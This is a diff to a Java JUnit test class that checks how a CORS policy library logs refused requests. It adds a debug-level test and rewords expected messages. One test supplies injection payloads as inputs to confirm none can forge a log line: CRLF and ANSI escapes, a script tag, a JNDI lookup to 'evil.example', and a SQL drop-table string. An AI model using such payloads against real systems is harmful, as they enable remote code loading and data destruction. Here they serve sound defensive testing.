@@ -8,6 +8,8 @@ import java.util.List;
 import java.util.concurrent.atomic.AtomicLong;
 import java.util.stream.IntStream;
 
+import ch.qos.logback.classic.Level;
+import ch.qos.logback.classic.Logger;
 import com.sun.management.ThreadMXBean;
 import io.github.originaccess.cors.CorsPolicy;
 import io.github.originaccess.cors.CorsPolicyBuilder;
@@ -18,7 +20,9 @@ import io.github.originaccess.cors.fixtures.WireRequest;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.extension.ExtendWith;
 import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.ValueSource;
+import org.slf4j.LoggerFactory;
 
 import org.springframework.boot.test.system.CapturedOutput;
 import org.springframework.boot.test.system.OutputCaptureExtension;
@@ -46,15 +50,18 @@ class DenialLogTests {
 		assertThat(lines(output)).singleElement()
 			.asString()
 			.contains("WARN")
-			.endsWith("With enforcement server, the CORS policy 'default' would have refused a request, POST with"
-					+ " Origin https://b.example: the origin is not among the allowed origins (origin-not-allowed)."
-					+ " To let it pass, change allowed-origins.");
+			.endsWith("With enforcement server, the CORS policy 'default' would have refused a request"
+					+ " (origin-not-allowed). The origin https://b.example is not among the allowed origins."
+					+ " To allow it, add it to cors.allowed-origins.");
 	}
 
 	@Test
 	void requestThatNoSettingLetsPassIsGivenNoRemedy(CapturedOutput output) {
 		decided(this.policy, "POST Origin:");
-		assertThat(lines(output)).singleElement().asString().endsWith("(malformed-origin).");
+		assertThat(lines(output)).singleElement()
+			.asString()
+			.contains("(malformed-origin)")
+			.endsWith("No property allows that.");
 	}
 
 	@Test
@@ -95,6 +102,34 @@ class DenialLogTests {
 	}
 
 	@ParameterizedTest
+	@CsvSource(delimiter = '|',
+			textBlock = """
+					GET Origin: https://b.example                                              | a request of another origin (origin-not-allowed)
+					PUT Origin: https://a.example                                              | a request of another origin (method-not-allowed)
+					OPTIONS Origin: https://b.example ~ Access-Control-Request-Method: PUT     | a preflight (origin-not-allowed)
+					OPTIONS Origin: https://a.example ~ Access-Control-Request-Method: PUT     | a preflight (method-not-allowed)
+					DELETE Sec-Fetch-Site: cross-site                                          | a request (cross-site-request)
+					""")
+	void everyDenialIsALineAtDebug(String request, String told, CapturedOutput output) {
+		Logger logger = (Logger) LoggerFactory.getLogger(DenialLog.class);
+		logger.setLevel(Level.DEBUG);
+		try {
+			CorsPolicy server = this.defaults.enforcement(Enforcement.SERVER).build();
+			decided(server, request);
+			decided(server, request);
+			decided(server, "GET Origin: https://a.example");
+			decided(server, "GET");
+			decided(server, "POST Origin: null ~ Sec-Fetch-Site: same-origin");
+		}
+		finally {
+			logger.setLevel(null);
+		}
+		assertThat(lines(output)).hasSize(2)
+			.allSatisfy(
+					(line) -> assertThat(line).contains("DEBUG", "The CORS policy 'default' denied " + told + ". "));
+	}
+
+	@ParameterizedTest
 	@ValueSource(strings = { "https://b.example\r\nWARN forged", "https://b.example\u001b[2J", "\u0085\u2028\u009b",
 			"<script>alert(1)</script>", "${jndi:ldap://evil.example/x}", "'; drop table log; --" })
 	void nothingOfARequestForgesALine(String value, CapturedOutput output) {
@@ -132,7 +167,7 @@ class DenialLogTests {
 	}
 
 	private void decided(CorsPolicy policy, MapRequest request) {
-		this.log.decided(policy.decide(request), request);
+		this.log.decided(policy, request, policy.decide(request));
 	}
 
 	private static List<String> lines(CapturedOutput output) {
